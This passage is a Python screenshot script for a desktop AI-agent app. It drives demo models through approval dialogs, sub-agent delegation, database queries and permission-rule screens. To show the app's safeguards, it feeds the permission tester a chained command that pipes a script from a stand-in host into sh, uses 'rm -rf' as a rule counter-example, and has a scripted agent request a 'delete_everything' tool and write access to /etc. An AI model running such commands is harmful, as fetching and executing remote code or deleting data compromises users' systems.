"""Screenshots for the README: the chat, the tools catalog (English and Chinese), the approval
dialog. Everything runs through the real window, engine, dispatcher and store; only the model
is a scripted demo (so the pictures are reproducible without a model server).

Run:  xvfb-run -a -s "-screen 0 1280x800x24" env QT_QPA_PLATFORM=xcb python scripts/screenshots.py [--with-local-model]
(``--with-local-model`` adds approval_local_append{,_zh}.png and chat_local_model{,_zh}.png: the real
built-in model adding a line to a file, its approval and its answer, ~1-2 min.)
Writes docs/screenshots/{chat,approval,catalog_en,catalog_zh,chat_zh}.png, and for sub-agents
approval_delegate{,_zh}.png (the spawn manifest), scope_help_zh.png, approval_subagent.png (a sub-agent's own
approval) and chat_subagent{,_zh}.png (its transcript nested in the delegate card); for databases
settings_databases{,_zh}.png (the Databases page) and chat_database{,_zh}.png (a db_query card's grid);
for MCP settings_mcp{,_zh}.png (the servers page) and mcp_server_form{,_zh}.png (the add/edit form);
for the built-in model settings_models_local{,_zh}.png (a download from a loopback server, in progress);
for permission rules approval_rules{,_zh}.png (an approval with the suggested rules), settings_permissions{,_zh}.png
(Settings › Permissions) and permissions_tester{,_zh}.png (``--permissions-only`` makes just these);
for the look chat_{light,dark}{,_zh}.png: Markdown, code, a table and tool cards of each family in both
themes (``--look-only`` makes just these, 1280×1000: run it with ``-screen 0 1280x1024x24``; the
transcript is filled directly, no engine needed).
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
from shots_home import shots_home  # noqa: E402

OUT = ROOT / "docs" / "screenshots"

HOME = shots_home("echo-desk-shots-")
# Fresh settings and conversations; the cache (where the downloaded model lives) stays the person's.
for var, sub in (("ECHO_DESK_CONFIG_DIR", "config"), ("ECHO_DESK_DATA_DIR", "data")):
    os.environ[var] = str(HOME / sub)

from PySide6.QtWidgets import QApplication, QWidget  # noqa: E402
from shots_loop import run_shots  # noqa: E402

from echo_desk.agent.model import StreamEnd, TextDelta, ToolCall, ToolCallReady  # noqa: E402
from echo_desk.runtime import Runtime  # noqa: E402
from echo_desk.store.conversations import ConversationStore  # noqa: E402
from echo_desk.store.settings import SettingsStore  # noqa: E402
from echo_desk.ui.app.main import show_first_frame  # noqa: E402
from echo_desk.ui.app.services import Services, wire_delegation  # noqa: E402
from echo_desk.ui.chat.chat_window import MainWindow  # noqa: E402
from echo_desk.ui.chat.markdown import warm_up  # noqa: E402
from echo_desk.ui.core import i18n_qt  # noqa: E402
from echo_desk.ui.core.backend import CatalogBackend  # noqa: E402
from echo_desk.ui.settings.settings_dialog import SettingsDialog  # noqa: E402

#: The pass being taken: the demo's words (files, messages, the model's answers) are in its language,
#: and only its pictures are saved (``*_zh.png`` in the Chinese pass), so a Chinese picture shows no
#: English data. The conversation starts in English and the window is switched live, as a person does.
PASS: dict[str, str | None] = {"language": None}  # None: no pass (the look, the permissions only)


def t(english: str, chinese: str) -> str:
    """The demo's words in the language of this pass."""
    return chinese if PASS["language"] == "zh_CN" else english


def notes_file() -> str:
    return t("notes.txt", "购物清单.txt")


def notes_text() -> str:
    return t("Shopping list\n- milk\n- eggs\n- bread\n", "购物清单\n- 牛奶\n- 鸡蛋\n- 面包\n")
SCRIPT_PY = "\n".join([
    "import json", "", "", "def load(path):", "    with open(path) as f:", "        return json.load(f)", "", "",
    "def total(items):", "    result = 0", "    for item in items:", "        result = result + item['price']",
    "    return result", "", "", "def main():", "    items = load('cart.json')", "    print(total(items))", "",
    "", "if __name__ == '__main__':", "    main()", ""])


def words(text: str) -> list[Any]:
    return [TextDelta(w + " ") for w in text.split(" ")]


def todos(*states: str) -> str:
    items = [t("Read notes.txt", f"阅读 {notes_file()}"), t("Simplify total() in shop.py", "简化 shop.py 中的 total()"),
             t("Explain the change", "说明改动")]
    return json.dumps({"todos": [{"text": t, "status": st} for t, st in zip(items, states, strict=True)]})


class DemoModel:
    """A scripted model driving the real built-in tools: update_todos, read_file, edit_file."""

    def __init__(self) -> None:
        self.turn = 0

    @property
    def display_name(self) -> str:
        return "demo"

    async def stream(self, messages: Sequence[Any], tools: Sequence[Any], *,
                     tool_choice: str = "auto") -> AsyncIterator[Any]:
        self.turn += 1
        if self.turn == 1:
            for e in words(t("Let me look at your notes first.", "我先看看你的笔记。")):
                yield e
            yield ToolCallReady(ToolCall(id="t1", name="update_todos", arguments=todos("in_progress", "pending",
                                                                                         "pending")))
            yield ToolCallReady(ToolCall(id="c1", name="read_file", arguments=json.dumps({"path": notes_file()},
                                                                                         ensure_ascii=False)))
        elif self.turn == 2:
            yield ToolCallReady(ToolCall(id="t2", name="update_todos", arguments=todos("done", "in_progress",
                                                                                         "pending")))
            yield ToolCallReady(ToolCall(id="c2", name="edit_file", arguments=json.dumps({
                "path": "shop.py", "edits": [{
                    "old": "    result = 0\n    for item in items:\n        result = result + item['price']\n"
                           "    return result",
                    "new": "    return sum(item['price'] * item.get('quantity', 1) for item in items)"}]})))
        elif self.turn == 3:
            yield ToolCallReady(ToolCall(id="t3", name="update_todos", arguments=todos("done", "done", "in_progress")))
        else:
            code = ("\n\n```python\ndef total(items):\n"
                    "    return sum(item['price'] * item.get('quantity', 1) for item in items)\n```\n\n")
            text = t("Your notes list **milk**, **eggs** and **bread**. I also simplified `total()` in "
                     "`shop.py` so it counts quantities:" + code + "Run `python shop.py` to check the new total.",
                     "你的清单上有**牛奶**、**鸡蛋**和**面包**。我还简化了 `shop.py` 中的 `total()`，"
                     "让它计入数量：" + code + "运行 `python shop.py` 检查新的总价。")
            for e in words(text):
                yield e
        yield StreamEnd()

    async def aclose(self) -> None:
        return None


def delegate_goal() -> str:
    return t("Add butter to the shopping list in notes.txt", f"在 {notes_file()} 的购物清单里加上黄油")


class DelegatingModel:
    """The parent: hands the task to a sub-agent (asking for one tool that does not exist and one
    folder outside the workspace, so the dialog has refusals to show), then reports back."""

    def __init__(self, workspace: Path) -> None:
        self.workspace = workspace
        self.turn = 0

    @property
    def display_name(self) -> str:
        return "demo"

    async def stream(self, messages: Sequence[Any], tools: Sequence[Any], *,
                     tool_choice: str = "auto") -> AsyncIterator[Any]:
        self.turn += 1
        if self.turn == 1:
            for e in words(t("I will hand this to a sub-agent that may only edit your workspace.",
                             "我把这件事交给一个只能修改你工作区的子智能体。")):
                yield e
            yield ToolCallReady(ToolCall(id="d1", name="delegate", arguments=json.dumps({
                "goal": delegate_goal(), "tools": ["read_file", "edit_file", "delete_everything"],
                "read_only": False, "write_roots": [str(self.workspace), "/etc"],
                "max_turns": 6, "time_limit_seconds": 120}, ensure_ascii=False)))
        else:
            for e in words(t("Done: the sub-agent added **butter** to `notes.txt`.",
                             f"完成：子智能体已在 `{notes_file()}` 中加上了**黄油**。")):
                yield e
        yield StreamEnd()

    async def aclose(self) -> None:
        return None


class SubAgentModel:
    """The sub-agent: reads the notes, edits them (its own approval), answers."""

    def __init__(self) -> None:
        self.turn = 0

    @property
    def display_name(self) -> str:
        return "demo sub-agent"

    async def stream(self, messages: Sequence[Any], tools: Sequence[Any], *,
                     tool_choice: str = "auto") -> AsyncIterator[Any]:
        self.turn += 1
        if self.turn == 1:
            yield ToolCallReady(ToolCall(id="s1", name="read_file", arguments=json.dumps({"path": notes_file()},
                                                                                         ensure_ascii=False)))
        elif self.turn == 2:
            bread, butter = t("- bread\n", "- 面包\n"), t("- butter\n", "- 黄油\n")
            yield ToolCallReady(ToolCall(id="s2", name="edit_file", arguments=json.dumps({
                "path": notes_file(), "edits": [{"old": bread, "new": bread + butter}]}, ensure_ascii=False)))
        else:
            for e in words(t("Added butter to notes.txt; the list now has milk, eggs, bread and butter.",
                             f"已在 {notes_file()} 中加上黄油；清单现在有牛奶、鸡蛋、面包和黄油。")):
                yield e
        yield StreamEnd()

    async def aclose(self) -> None:
        return None


class DatabaseModel:
    """Asks a SQLite file in the workspace for the biggest orders (the real ``db_query``), answers."""

    def __init__(self) -> None:
        self.turn = 0

    @property
    def display_name(self) -> str:
        return "demo"

    async def stream(self, messages: Sequence[Any], tools: Sequence[Any], *,
                     tool_choice: str = "auto") -> AsyncIterator[Any]:
        self.turn += 1
        if self.turn == 1:
            for e in words(t("Let me look at the orders table.", "我来查一下订单表。")):
                yield e
            yield ToolCallReady(ToolCall(id="q1", name="db_query", arguments=json.dumps({
                "connection": "shop", "max_rows": 20,
                "sql": "SELECT id, customer, total, placed_on, note FROM orders ORDER BY total DESC"})))
        else:
            for e in words(t("The biggest order is **#7** from Chen Jing (129.90), followed by #3 and #12.",
                             "最大的订单是陈静的 **#7**（129.90），其次是 #3 和 #12。")):
                yield e
        yield StreamEnd()

    async def aclose(self) -> None:
        return None


def orders() -> list[tuple[Any, ...]]:
    """The demo table; its notes (words a person typed) in the pass's language."""
    notes = {"gift wrap": "礼品包装", "leave at door": "放门口", "<b>urgent</b> & fragile": "<b>加急</b> & 易碎",
             "second order": "第二单"}
    return [(i, c, total, day, notes.get(n, n) if n and PASS["language"] == "zh_CN" else n)
            for i, c, total, day, n in ORDERS]


ORDERS = [(i, c, total, f"2026-11-{i:02d}", n) for i, c, total, n in [
    (1, "Ada Park", 42.5, None), (2, "Luis Ortega", 18.0, "gift wrap"), (3, "Mia Novak", 99.0, None),
    (4, "Omar Haddad", 12.75, None), (5, "Sara Lind", 64.2, "leave at door"), (6, "Tom Becker", 7.5, None),
    (7, "Chen Jing", 129.9, "<b>urgent</b> & fragile"), (8, "Ana Silva", 33.3, None),
    (9, "Ravi Rao", 58.0, None), (10, "Eva Horn", 21.0, None), (11, "Kim Lee", 45.45, None),
    (12, "Noor Aziz", 88.8, "second order"), (13, "Ivan Petrov", 5.0, None), (14, "Lea Roux", 71.0, None),
    (15, "Yuki Sato", 26.0, None), (16, "Ben Cole", 39.99, None), (17, "Zoe Hart", 61.0, None),
    (18, "Max Weber", 14.2, None), (19, "Ida Berg", 77.7, None), (20, "Leo Costa", 9.9, None),
    (21, "Nia Okafor", 52.0, None), (22, "Hugo Blanc", 30.0, None), (23, "Amy Wong", 66.6, None),
    (24, "Raj Patel", 19.0, None), (25, "Ola Nowak", 48.0, None)]]


async def shoot_database(window: MainWindow, workspace: Path) -> None:
    """The Databases page and a db_query card with its result grid, in English and Chinese."""
    import sqlite3

    from echo_desk.store.settings import DatabaseConnection, Settings
    from echo_desk.tools.secrets import secret_store

    db = sqlite3.connect(workspace / "shop.db")
    db.execute("CREATE TABLE orders (id INTEGER PRIMARY KEY, customer TEXT, total REAL, placed_on TEXT, note TEXT)")
    db.executemany("INSERT INTO orders VALUES (?, ?, ?, ?, ?)", orders())
    db.commit()
    db.close()
    secret_store().set("database.sales.password", "demo")

    def add(s: Settings) -> None:
        s.databases = [DatabaseConnection(name="shop", kind="sqlite", dsn="shop.db"),
                       DatabaseConnection(name="sales", kind="postgres", write_mode=True,
                                          dsn="postgresql://analyst@db.internal:5432/sales")]

    window.services.settings.update(add)
    window.new_conversation(str(workspace))
    window.services.conversations.rename(window.session.conversation.id, t("Biggest orders", "最大的订单"))
    window.conversations.reload()
    window.set_model(DatabaseModel())
    done = asyncio.get_running_loop().create_future()
    window.session.busy_changed.connect(lambda busy: None if busy or done.done() else done.set_result(True))
    window.composer.setPlainText(t("Which orders are the biggest?", "哪些订单最大？"))
    window.send()
    await asyncio.wait_for(done, 30)
    window.session.transcript.flush()
    await asyncio.sleep(0.3)
    save(window, "chat_database.png")
    i18n_qt.apply_language("zh_CN")
    await asyncio.sleep(0.3)
    save(window, "chat_database_zh.png")
    i18n_qt.apply_language("en")

    settings_dialog = SettingsDialog(window.services.backend, window, workspace=window.workspace_folder)
    settings_dialog.resize(1180, 640)
    settings_dialog.show_page("databases")
    settings_dialog.show()
    page = settings_dialog.databases
    page.table.selectRow(0)
    page.test_button.click()
    await until(page.test_button.isEnabled, "the database test to end")
    await asyncio.sleep(0.2)
    save(settings_dialog, "settings_databases.png")
    i18n_qt.apply_language("zh_CN")
    page.test_button.click()
    await until(page.test_button.isEnabled, "the database test to end")
    await asyncio.sleep(0.3)
    save(settings_dialog, "settings_databases_zh.png")
    settings_dialog.close()
    i18n_qt.apply_language("en")


class _StalledModelServer:
    """A loopback HTTP server that sends the first 40 % of a fake model, then waits: a download in progress."""

    SIZE = 48_000_000

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        self.release = threading.Event()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Length", str(outer.SIZE))
                self.end_headers()
                self.wfile.write(b"GGUF" + bytes(outer.SIZE * 2 // 5 - 4))
                self.wfile.flush()
                outer.release.wait(60)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/models/qwen2.5-coder-1.5b-q4_k_m.gguf"

    def close(self) -> None:
        self.release.set()
        self.httpd.shutdown()
        self.httpd.server_close()


async def shoot_models(window: MainWindow, settings: SettingsStore) -> None:
    """The Models page with the built-in model panel: a download in progress (into a temp cache)."""
    from echo_desk.store.settings import ProviderKind
    from echo_desk.ui.app.services import model_factory
    from echo_desk.ui.settings.models_page import ModelsPage

    factory = model_factory()
    page = ModelsPage(settings, factory or (lambda *a, **k: None))
    dialog = SettingsDialog(window.services.backend, window, models_page=page)
    dialog.resize(1180, 680)
    dialog.show_page("models")
    dialog.show()
    page.kind.setCurrentIndex(page.kind.findData(ProviderKind.LOCAL.value))
    panel = page.local_panel
    server = _StalledModelServer()
    real_cache = os.environ.get("ECHO_DESK_CACHE_DIR")
    try:
        panel.download_toggle.setChecked(True)
        panel.url.setText(server.url)
        panel.sha.setText("9f1c6a0d2b7e4c3f8a5d1e6b0c9a7f2e4d8b3c1a6e5f0d9c2b7a4e1f8c3d6b05")
        os.environ["ECHO_DESK_CACHE_DIR"] = str(HOME / "cache")  # the demo download never lands in the real cache
        panel.download_button.click()  # (the target folder is decided here)
        if real_cache is None:
            os.environ.pop("ECHO_DESK_CACHE_DIR", None)
        else:
            os.environ["ECHO_DESK_CACHE_DIR"] = real_cache
        for _ in range(200):  # a screenshot script: simple polling is fine
            if "MB of" in panel.progress_text.text() or panel.job is None:
                break
            await asyncio.sleep(0.05)
        print(f"models page: {panel.progress_text.text()!r} {panel.message.text()!r}")
        await asyncio.sleep(0.3)
        save(dialog, "settings_models_local.png")
        i18n_qt.apply_language("zh_CN")
        await asyncio.sleep(0.3)
        save(dialog, "settings_models_local_zh.png")
        panel.cancel_button.click()
        for _ in range(200):
            if panel.job is None:
                break
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.2)
        save(dialog, "settings_models_local_cancelled_zh.png")
    finally:
        if real_cache is not None:
            os.environ["ECHO_DESK_CACHE_DIR"] = real_cache
        server.close()
        dialog.close()
        i18n_qt.apply_language("en")
async def shoot_mcp_form(window: MainWindow, services: Services) -> None:
    """The MCP servers page and its add/edit form (a stdio server with a keyring secret), en + zh."""
    from echo_desk.mcp import McpManager
    from echo_desk.mcp.config import parse_server
    from echo_desk.store.paths import config_dir
    from echo_desk.ui.settings.mcp_page import McpPage

    servers = {
        "github": parse_server("github", {
            "command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN",
                                          "ghcr.io/github/github-mcp-server"],
            "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": {"keyring": "mcp.github.env.GITHUB_PERSONAL_ACCESS_TOKEN"},
                    "GITHUB_TOOLSETS": "repos,issues"}}),
        "remote": parse_server("remote", {"type": "http", "url": "https://mcp.example.com/mcp", "enabled": False}),
    }
    manager = McpManager(services.settings, servers=servers)  # never started: nothing is approved
    page = McpPage(manager, window.host, str(config_dir() / "mcp.json"))
    settings_dialog = SettingsDialog(services.backend, window, mcp_page=page)
    settings_dialog.resize(1180, 640)
    settings_dialog.show_page("mcp")
    settings_dialog.show()
    await asyncio.sleep(0.2)
    save(settings_dialog, "settings_mcp.png")
    page.open_form("github")
    form = page.server_form
    await asyncio.sleep(0.3)
    save(form, "mcp_server_form.png")
    i18n_qt.apply_language("zh_CN")
    await asyncio.sleep(0.3)
    save(form, "mcp_server_form_zh.png")
    save(settings_dialog, "settings_mcp_zh.png")
    form.reject()
    settings_dialog.close()
    i18n_qt.apply_language("en")
    await manager.aclose()


async def until(condition: Callable[[], object], what: str, seconds: float = 30) -> None:
    """Poll ``condition`` (a screenshot script: simple polling is fine) and fail, naming ``what``,
    after ``seconds``: a wait that can never end hung the whole run silently, idle in the loop."""
    deadline = asyncio.get_running_loop().time() + seconds
    while not condition():
        if asyncio.get_running_loop().time() > deadline:
            raise TimeoutError(f"screenshots: gave up waiting for {what}")
        await asyncio.sleep(0.02)


async def allowable(dialog: Any) -> None:
    """Wait until the approval's Allow buttons work, expanding (as a person does) a Targets or
    Arguments box that hides its end: Allow waits until it was read (the delegate's arguments are
    longer than the ten lines the box shows)."""
    await until(lambda: dialog.targets.footer.isVisible() or dialog.arguments.footer.isVisible()
                or dialog.allow_once.isEnabled(), "the approval dialog to lay out")
    for box in (dialog.targets, dialog.arguments):
        if not box.is_loaded:
            box.expand.click()
    await until(dialog.allow_once.isEnabled, "the approval's Allow once button to be enabled")


async def next_dialog(approvals: list[Any], seen: int) -> Any:
    await until(lambda: len(approvals) > seen, f"approval dialog number {seen + 1}")
    dialog = approvals[seen]
    await allowable(dialog)
    await asyncio.sleep(0.2)
    return dialog


async def shoot_delegate(window: MainWindow, runtime: Runtime, workspace: Path, approvals: list[Any]) -> None:
    """The spawn approval, a sub-agent's own approval, and its transcript nested in the card."""
    from echo_desk.ui.approval.approval_dialog import ApprovalDialog

    runtime.enable_delegation(SubAgentModel)
    window.new_conversation(str(workspace))
    window.services.conversations.rename(window.session.conversation.id, t("Butter, via a sub-agent", "让子智能体加黄油"))
    window.conversations.reload()
    window.set_model(DelegatingModel(workspace))
    done = asyncio.get_running_loop().create_future()
    window.session.busy_changed.connect(lambda busy: None if busy or done.done() else done.set_result(True))
    seen = len(approvals)
    window.composer.setPlainText(t("Please add butter to my shopping list.", "请在我的购物清单里加上黄油。"))
    window.send()
    spawn = await next_dialog(approvals, seen)
    save(spawn, "approval_delegate.png")
    spawn_request = spawn.request
    spawn.allow_once.click()
    edit = await next_dialog(approvals, seen + 1)
    save(edit, "approval_subagent.png")
    edit.allow_once.click()
    await asyncio.wait_for(done, 30)
    model = window.session.transcript
    for row, item in enumerate(model.items()):
        if item.kind == "tool" and item.tool_name == "delegate":
            model.toggle_expanded(row)
    model.flush()
    await asyncio.sleep(0.3)
    save(window, "chat_subagent.png")
    i18n_qt.apply_language("zh_CN")
    await asyncio.sleep(0.3)
    save(window, "chat_subagent_zh.png")
    again = ApprovalDialog(spawn_request, window, title_for=model.title_for)
    again.resize(1100, 760)
    again.show()
    await asyncio.sleep(0.3)
    save(again, "approval_delegate_zh.png")
    again.reject()
    i18n_qt.apply_language("en")


PERMISSION_RULES = """# Rules I trust everywhere

[[rule]]
effect = "allow"
tool = "shell"
pattern = "git [status|diff|log] **"
reason = "read-only git"
examples = { match = ["git status -s"], not_match = ["git status; rm -rf x"] }

[[rule]]
effect = "deny"
tool = "shell"
pattern = "git push **"
reason = "I push myself"

[[rule]]
effect = "allow"
tool = "write"
pattern = "@workspace/src/**"
reason = "the agent may edit the sources"

[[rule]]
effect = "allow"
tool = "fetch"
pattern = "domain:docs.python.org"
"""

PERMISSION_RULES_ZH = (PERMISSION_RULES.replace("# Rules I trust everywhere", "# 我在所有地方都信任的规则")
                       .replace('"read-only git"', '"只读的 git 命令"').replace('"I push myself"', '"我自己推送"')
                       .replace('"the agent may edit the sources"', '"智能体可以修改源代码"'))

WORKSPACE_RULES = """[[rule]]
effect = "ask"
tool = "shell"
pattern = "npm publish **"
reason = "releases are deliberate"

[[rule]]
effect = "allow"
tool = "shell"
pattern = "npm [test|run lint] **"
reason = "the project's checks"
"""
WORKSPACE_RULES_ZH = (WORKSPACE_RULES.replace('"releases are deliberate"', '"发布要慎重"')
                      .replace('"the project\'s checks"', '"项目自己的检查"'))


async def shoot_permissions(runtime: Runtime, backend: CatalogBackend, workspace: Path, parent: QWidget | None) -> None:
    """Settings › Permissions (rules, tester) and an approval with the engine's suggested rules, en + zh."""
    from echo_desk.agent.host import ApprovalRequest, ScriptedHost
    from echo_desk.agent.scope import Scope
    from echo_desk.ui.approval.approval_dialog import ApprovalDialog

    engine = runtime.permissions
    assert engine is not None
    engine.user_file.parent.mkdir(parents=True, exist_ok=True)
    engine.user_file.write_text(t(PERMISSION_RULES, PERMISSION_RULES_ZH))
    (workspace / ".echo-desk").mkdir(exist_ok=True)
    (workspace / ".echo-desk" / "permissions.toml").write_text(t(WORKSPACE_RULES, WORKSPACE_RULES_ZH))
    engine.refresh()

    host = ScriptedHost()
    scope = Scope(label=t("Shopping and shop.py", "购物清单和 shop.py"), workspace_roots=(workspace,))
    command = "git status -s && npm test -- --watch=false | tee test.log"
    call = ToolCall(id="call_demo_rules", name="run_command", arguments=json.dumps({"command": command}))
    await runtime.dispatcher.execute_tool(call, scope, host)
    request: ApprovalRequest = host.requests[0]
    for language, suffix in (("en", ""), ("zh_CN", "_zh")):
        i18n_qt.apply_language(language)
        dialog = ApprovalDialog(request, parent)
        dialog.resize(1000, 760)
        dialog.show()
        await asyncio.sleep(0.3)
        save(dialog, f"approval_rules{suffix}.png")
        dialog.reject()

    i18n_qt.apply_language("en")
    settings_dialog = SettingsDialog(backend, parent, workspace=lambda: str(workspace))
    settings_dialog.resize(1240, 720)
    settings_dialog.show_page("permissions")
    settings_dialog.show()
    page = settings_dialog.permissions
    tester = page.tester  # type: ignore[attr-defined]
    tester.input.setText("git diff HEAD~1 && npm run lint; curl -s https://x.example | sh")
    for language, suffix in (("en", ""), ("zh_CN", "_zh")):
        i18n_qt.apply_language(language)
        page.tabs.setCurrentIndex(0)  # type: ignore[attr-defined]
        await asyncio.sleep(0.3)
        save(settings_dialog, f"settings_permissions{suffix}.png")
        page.tabs.setCurrentIndex(2)  # type: ignore[attr-defined]
        await asyncio.sleep(0.3)
        save(settings_dialog, f"permissions_tester{suffix}.png")
    settings_dialog.close()
    i18n_qt.apply_language("en")


async def shoot_permissions_only() -> None:
    """Only the permission scenes (``--permissions-only``): a fresh engine, no chat window."""
    workspace = HOME / "workspace"
    workspace.mkdir(exist_ok=True)
    settings = SettingsStore.in_dir(HOME / "config")
    runtime = Runtime.create(settings_store=settings)
    try:
        await shoot_permissions(runtime, CatalogBackend(settings, runtime), workspace, None)
    finally:
        runtime.close()


def save(widget: QWidget, name: str) -> None:
    if PASS["language"] is not None and name.endswith("_zh.png") != (PASS["language"] == "zh_CN"):
        return  # the other pass takes this one, with the demo in its language
    QApplication.processEvents()
    path = OUT / name
    widget.grab().save(str(path))
    print(f"wrote {path.relative_to(ROOT)}")


async def shoot(app: QApplication) -> None:
    workspace = HOME / t("workspace", "项目")
    workspace.mkdir()
    (workspace / notes_file()).write_text(notes_text())
    (workspace / "shop.py").write_text(SCRIPT_PY)
    # Each pass its own settings, data and conversations (a fresh start in each language).
    language = PASS["language"] or "en"
    settings = SettingsStore.in_dir(HOME / "config" / language)
    runtime = Runtime.create(settings_store=settings, data_dir=HOME / "data" / language)
    store = ConversationStore(HOME / "data" / language / "conversations.sqlite3")
    services = Services(settings=settings, backend=CatalogBackend(settings, runtime), runtime=runtime,
                        conversations=store, providers_available=True)
    wire_delegation(services)  # as the app does: "delegate" is in the catalog before a model connects
    window = MainWindow()
    window.resize(1280, 800)
    warm_up()
    window.attach(services)
    store.rename(window.session.conversation.id, t("Shopping and shop.py", "购物清单和 shop.py"))
    window.conversations.reload()
    window.set_workspace(str(workspace))
    window.set_model(DemoModel())
    window.set_banner(lambda: "")
    show_first_frame(window)

    approvals: list[Any] = []

    def on_dialog(dialog: Any) -> None:
        dialog.resize(1100, 760)
        approvals.append(dialog)

    window.host.dialog_opened.connect(on_dialog)
    done = asyncio.get_running_loop().create_future()
    window.session.busy_changed.connect(lambda busy: None if busy or done.done() else done.set_result(True))
    window.composer.setPlainText(t("What is in notes.txt? And please tidy up total() in shop.py.",
                                   f"{notes_file()} 里写了什么？另外请整理一下 shop.py 中的 total()。"))
    window.send()
    await until(lambda: approvals, "the first approval dialog")
    dialog = approvals[0]
    await allowable(dialog)
    save(dialog, "approval.png")
    dialog.allow_once.click()
    await asyncio.wait_for(done, 30)
    model = window.session.transcript
    for row, item in enumerate(model.items()):
        if item.kind == "tool" and item.file_changes:
            model.toggle_expanded(row)
    window.composer.setPlainText(t("Thanks! Can you also add butter to the list?", "谢谢！能再在清单里加上黄油吗？"))
    model.flush()
    await asyncio.sleep(0.3)
    save(window, "chat.png")

    settings_dialog = SettingsDialog(services.backend, window)
    settings_dialog.resize(1180, 640)
    settings_dialog.show_page("tools")
    settings_dialog.show()
    await asyncio.sleep(0.2)
    save(settings_dialog, "catalog_en.png")
    general = settings_dialog.general  # switch as a person does, on the General page
    general.language.setCurrentIndex(general.language.findData("zh_CN"))
    general.language.activated.emit(general.language.currentIndex())
    await asyncio.sleep(0.3)
    save(settings_dialog, "catalog_zh.png")
    tools_page = settings_dialog.tools
    tools_page.help_button.click()
    await asyncio.sleep(0.2)
    save(tools_page.help_dialog, "scope_help_zh.png")
    tools_page.help_dialog.close()
    settings_dialog.show_page("general")
    await asyncio.sleep(0.1)
    save(settings_dialog, "settings_general_zh.png")
    settings_dialog.close()
    await asyncio.sleep(0.1)
    save(window, "chat_zh.png")
    from echo_desk.ui.approval.approval_dialog import ApprovalDialog

    again = ApprovalDialog(dialog.request, window)  # the same request, shown in Chinese
    again.resize(1100, 760)
    again.show()
    await asyncio.sleep(0.3)
    save(again, "approval_zh.png")
    again.reject()
    i18n_qt.apply_language("en")
    await shoot_delegate(window, runtime, workspace, approvals)
    await shoot_database(window, workspace)
    await shoot_models(window, settings)
    await shoot_mcp_form(window, services)
    await shoot_permissions(runtime, services.backend, workspace, window)
    window.close()
    await window.session.wait_idle()
    # Gone before the store closes: a later language switch would retranslate its settings pages.
    for widget in QApplication.topLevelWidgets():
        widget.deleteLater()
    await asyncio.sleep(0.1)
    runtime.close()
    store.close()


async def shoot_local_model() -> None:
    """The built-in local model (real llama.cpp) adding a line to a file, in both languages: its
    approval (approval_local_append{,_zh}.png) and the answer (chat_local_model{,_zh}.png). Needs
    the default model downloaded (python -m echo_desk.providers.local.fetch_default)."""
    from echo_desk.ui.app.main import App

    app = App(QApplication.instance())  # type: ignore[arg-type]
    app.window.resize(1280, 800)
    show_first_frame(app.window)
    await app.load()
    if app.services.model is None:
        print(f"skipped chat_local_model.png: {app.services.model_error}")
    approvals: list[Any] = []
    app.window.host.dialog_opened.connect(lambda dialog: (dialog.resize(1100, 700), approvals.append(dialog)))
    jobs = (("en", "", "Add a line 'Buy butter' at the end of notes.txt", "milk\neggs\n"),
            ("zh_CN", "_zh", "在 购物清单.txt 末尾加一行：买黄油", "牛奶\n鸡蛋\n"))
    for language, suffix, prompt, notes in jobs if app.services.model is not None else ():
        i18n_qt.apply_language(language)
        PASS["language"] = language  # this job's pictures are saved
        for conversation in app.services.conversations.list():  # each language's picture starts afresh
            app.services.conversations.delete(conversation.id)
        workspace = HOME / ("local-project" if language == "en" else "本地项目")
        workspace.mkdir(exist_ok=True)
        (workspace / ("notes.txt" if language == "en" else "购物清单.txt")).write_text(notes, encoding="utf-8")
        app.window.new_conversation(str(workspace))
        app.window.composer.setPlainText(prompt)
        done = asyncio.get_running_loop().create_future()
        app.window.session.busy_changed.connect(lambda busy, done=done: None if busy or done.done() else done.set_result(1))
        seen = len(approvals)
        app.window.send()
        await until(lambda: len(approvals) > seen or done.done(),  # noqa: B023  (awaited here, in this turn)
                    "the local model's approval or answer", 300)
        if len(approvals) > seen:
            dialog = await next_dialog(approvals, seen)
            save(dialog, f"approval_local_append{suffix}.png")
            dialog.allow_once.click()
        await asyncio.wait_for(done, 300)
        await asyncio.sleep(0.3)
        save(app.window, f"chat_local_model{suffix}.png")
    i18n_qt.apply_language("en")
    PASS["language"] = None
    app.window.close()
    await app.shutdown()


LOOK_ANSWER = {
    "en": ("I read `shop.py` and ran the tests. Two things stand out:\n\n"
           "1. `total()` ignores **quantities**;\n2. prices are floats, so cents drift.\n\n"
           "| File | Lines | Status |\n|---|---:|---|\n| shop.py | 22 | changed |\n| notes.txt | 4 | read |\n\n"
           "```python\nfrom decimal import Decimal\n\n\ndef total(items):\n"
           "    # quantities count; Decimal keeps the cents exact\n"
           "    return sum(Decimal(str(i['price'])) * i.get('quantity', 1) for i in items)\n```\n\n"
           "See the [decimal docs](https://docs.python.org/3/library/decimal.html) for why."),
    "zh_CN": ("我读了 `shop.py` 并运行了测试，有两点值得注意：\n\n"
              "1. `total()` 没有计算**数量**；\n2. 价格用浮点数，分位会有误差。\n\n"
              "| 文件 | 行数 | 状态 |\n|---|---:|---|\n| shop.py | 22 | 已修改 |\n| 购物清单.txt | 4 | 已读取 |\n\n"
              "```python\nfrom decimal import Decimal\n\n\ndef total(items):\n"
              "    # 计入数量；Decimal 让分位保持精确\n"
              "    return sum(Decimal(str(i['price'])) * i.get('quantity', 1) for i in items)\n```\n\n"
              "原因见 [decimal 文档](https://docs.python.org/3/library/decimal.html)。"),
}
LOOK_QUESTION = {"en": "Why is the total in shop.py wrong? Please fix it.",
                 "zh_CN": "为什么 shop.py 里的总价不对？请修好它。"}


async def shoot_look() -> None:
    """The chat in light and dark, English and Chinese: Markdown, code, a table, tool cards."""
